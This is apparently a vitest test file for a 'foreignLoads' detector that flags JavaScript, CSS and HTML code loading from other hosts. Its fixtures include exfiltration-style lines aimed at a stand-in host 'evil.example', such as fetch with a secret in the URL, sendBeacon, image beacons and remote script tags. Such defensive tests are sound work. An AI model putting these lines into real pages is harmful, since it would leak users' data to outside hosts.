import { expect, test } from 'vitest';
import { foreignLoads } from './foreign-loads.ts';

test.each([
  ['page.js', 'import("https://cdn.example/x.js")'],
  ['page.js', 'import{a}from"https://cdn.example/x.js"'],
  ['page.js', 'await fetch(`https://evil.example/${secret}`)'],
  ['page.js', "new WebSocket('wss://evil.example')"],
  ['page.js', 'new Worker( "//evil.example/w.js" )'],
  ['page.js', 'navigator.sendBeacon("https://evil.example",all)'],
  ['page.js', 'xhr.open("POST","https://evil.example/")'],
  ['page.js', 'image.src="https://evil.example/p.gif?"+all'],
  ['page.js', 'jsx("img",{src:"https://evil.example/p.png"})'],
  ['page.js', 'el.setAttribute("src","http://evil.example/")'],
  ['page.css', '@import "https://fonts.example/a.css";'],
  ['page.css', '.a{background:url(//evil.example/p.png)}'],
  ['page.css', ".a{src:url('https://fonts.example/f.woff2')}"],
  ['page.html', '<script async src="https://evil.example/x.js"></script>'],
  ['page.html', '<link rel="stylesheet" href="https://fonts.example/a.css">'],
  ['page.html', '<link href="https://fonts.example/" rel="preconnect">'],
  ['page.html', '<form method="post" action="https://evil.example/">'],
  ['page.JS', 'fetch("https://evil.example/x")'],
])('[PLT-176] %s with the text %s loads from another host', (name, text) => {
  expect(foreignLoads(name, `before();${text};after()`)).toHaveLength(1);
});

test.each([
  ['page.js', 'jsx("a",{href:`https://t.me/${name}`,children:"Написать"})'],
  ['page.js', 'createElementNS("http://www.w3.org/2000/svg","path")'],
  ['page.js', 'throw Error("https://react.dev/errors/"+code)'],
  ['page.js', 'fetch("/api/lessons");import("./part.js");new WebSocket("/ws")'],
  ['page.js', '// see https://example.org\nconst src = other'],
  ['page.css', '.a{background:url(data:image/svg+xml,x)}.b{src:url(font.woff2)}'],
  ['page.html', '<a href="https://example.org">x</a><img src="/p.png"><svg xmlns="http://www.w3.org/2000/svg">'],
  ['picture.png', 'fetch("https://evil.example")'],
])('[PLT-176] %s with the text %s loads from no other host', (name, text) => {
  expect(foreignLoads(name, text)).toEqual([]);
});
